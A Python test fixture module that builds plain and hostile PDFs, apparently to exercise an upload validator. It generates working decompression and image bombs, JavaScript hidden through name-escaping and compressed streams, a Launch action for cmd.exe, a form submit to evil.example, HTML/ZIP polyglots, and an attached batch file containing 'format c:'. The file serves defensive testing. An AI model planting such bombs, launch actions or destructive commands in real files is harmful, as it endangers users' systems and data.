"""Real PDFs, plain and hostile, built byte by byte."""

from __future__ import annotations

import io
import zipfile
import zlib

from pypdf import PdfReader, PdfWriter
from reportlab.pdfgen.canvas import Canvas


def plain(pages: int = 2, words: str = "Load the housing") -> bytes:
    out = io.BytesIO()
    canvas = Canvas(out)
    for number in range(pages):
        canvas.drawString(72, 700, f"{words} {number + 1}")
        canvas.showPage()
    canvas.save()
    return out.getvalue()


def written(change: object) -> bytes:
    """A plain one, changed by pypdf."""
    writer = PdfWriter(PdfReader(io.BytesIO(plain())))
    change(writer)  # type: ignore[operator]
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def of_objects(*objects: bytes) -> bytes:
    """Objects 1, 2, 3 … (1 is the catalog) with their table."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table)
    return bytes(out)


PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]%s>>"


def page_with(more: bytes, catalog: bytes = b"", *objects: bytes) -> bytes:
    return of_objects(b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog, PAGES, PAGE % more, *objects)


def hidden_in_a_stream() -> bytes:
    """The script lies in a compressed stream of objects (PDF 1.5), where no word of it can be read."""
    inside = [(1, b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>"), (2, PAGES), (3, PAGE % b"")]
    inside.append((4, b"<</S/JavaScript/JS(app.alert\\(1\\))>>"))
    heads, bodies = "", b""
    for number, content in inside:
        heads += f"{number} {len(bodies)} "
        bodies += content + b" "
    packed = zlib.compress(heads.encode() + bodies)
    out = bytearray(b"%PDF-1.5\n")
    at = len(out)
    out += b"5 0 obj\n<</Type/ObjStm/N 4/First %d/Length %d/Filter/FlateDecode>>stream\n" % (len(heads), len(packed))
    out += packed + b"\nendstream\nendobj\n"
    table = len(out)
    rows = b"\0\0\0\0" + b"".join(bytes([2, 0, 5, index]) for index in range(4))
    rows += bytes([1]) + at.to_bytes(2, "big") + b"\0" + bytes([1]) + table.to_bytes(2, "big") + b"\0"
    out += b"6 0 obj\n<</Type/XRef/Size 7/W[1 2 1]/Root 1 0 R/Length %d>>stream\n" % len(rows)
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table
    return bytes(out)


def bomb(gigabytes: float = 1.5) -> bytes:
    """Some kilobytes that unpack to more than any memory, twice over."""
    packer, inner, zeros = zlib.compressobj(9), b"", bytes(2**24)
    for _ in range(int(gigabytes * 64)):
        inner += packer.compress(zeros)
    packed = zlib.compress(inner + packer.flush(), 9)
    stream = b"<</Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n%s\nendstream" % (len(packed), packed)
    return page_with(b"/Contents 4 0 R", b"", stream)


def huge_picture() -> bytes:
    """One picture of 60000 × 60000 pixels in a few hundred bytes."""
    packed = zlib.compress(bytes(60_000), 9)
    image = (
        b"<</Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8"
        b"/Filter/FlateDecode/Length %d>>stream\n%s\nendstream" % (len(packed), packed)
    )
    content = b"<</Length 30>>stream\nq 300 0 0 200 0 0 cm /I Do Q  \nendstream"
    return page_with(b"/Contents 5 0 R/Resources<</XObject<</I 4 0 R>>>>", b"", image, content)


def with_zip_behind() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr("run.bat", "format c:")
    return plain() + archive.getvalue()


def with_zip_inside() -> bytes:
    """The archive lies in a stream before the end of the PDF."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as packed:
        packed.writestr("run.bat", "format c:")
    data = archive.getvalue()
    return page_with(b"", b"", b"<</Length %d>>stream\n%s\nendstream" % (len(data), data))


HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
LAUNCH = b"<</S/Launch/F(cmd.exe)>>"
LINK = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A%s>>]"

RUNS = "wants to run something"
MORE = "not only a PDF"
FILES = "carries other files"

ATTACKS = {  # what it is → (its bytes, what is said)
    "a page named .pdf": (HTML, "no PDF we can read"),
    "a drawing named .pdf": (SVG, "no PDF we can read"),
    "nothing": (b"", "no PDF we can read"),
    "a PDF that breaks off": (plain()[:400], "no PDF we can read"),
    "a head without a body": (b"%PDF-1.7\n" + bytes(500) + b"\n%%EOF", "no PDF we can read"),
    "a page before the PDF": (HTML + plain(), MORE),
    "a page within the PDF's first line": (plain().replace(b"\n", b"\n%" + HTML + b"\n", 1), MORE),
    "a page after the PDF": (plain() + HTML, MORE),
    "an archive after the PDF": (with_zip_behind(), MORE),
    "an archive in the PDF": (with_zip_inside(), MORE),
    "a script of the document": (page_with(b"", b"/Names<</JavaScript<</Names[(x)4 0 R]>>>>", SCRIPT), RUNS),
    "a script when it opens": (page_with(b"", b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), RUNS),
    "a script spelled otherwise": (page_with(b"", b"/Open#41ction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"), RUNS),
    "a script in a compressed stream": (hidden_in_a_stream(), RUNS),
    "a script when a page opens": (page_with(b"/AA<</O<</S/Named/N/Print>>>>"), RUNS),
    "a program behind a link": (page_with(LINK % LAUNCH), RUNS),
    "a program, said elsewhere": (page_with(LINK % b"<</S 4 0 R/F(cmd.exe)>>", b"", b"/L#61unch"), RUNS),
    "a form that is sent away": (page_with(LINK % b"<</S/SubmitForm/F(http://evil.example)>>"), RUNS),
    "a file inside": (written(lambda writer: writer.add_attachment("run.bat", b"format c:")), FILES),
    "a password": (written(lambda writer: writer.encrypt("secret")), "locked with a password"),
    "a password that nobody needs": (written(lambda writer: writer.encrypt("", "owner")), "locked with a password"),
    "too many pages": (plain(41), "more than 40 pages"),
}
